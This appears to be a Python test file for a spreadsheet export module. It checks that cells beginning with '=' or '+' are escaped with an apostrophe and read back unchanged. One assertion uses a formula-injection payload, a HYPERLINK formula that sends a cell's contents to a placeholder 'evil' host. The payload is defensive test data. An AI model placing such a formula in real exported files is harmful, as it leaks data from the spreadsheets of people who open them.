from __future__ import annotations

from nrm.exchange.fileformat import _cell, read


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
    assert _cell('=HYPERLINK("http://evil/?"&B2,"x")') == '\'=HYPERLINK("http://evil/?"&B2,"x")'
    assert _cell("+383 44 123 456") == "'+383 44 123 456"
    assert _cell("Ardita") == "Ardita"


def test_reading_the_file_back_gives_the_value_as_it_was() -> None:
    rows = read(b"a,b\n'=1+1,'+383 44\n'quoted,plain\n", "csv")
    assert rows == [{"a": "=1+1", "b": "+383 44"}, {"a": "'quoted", "b": "plain"}]
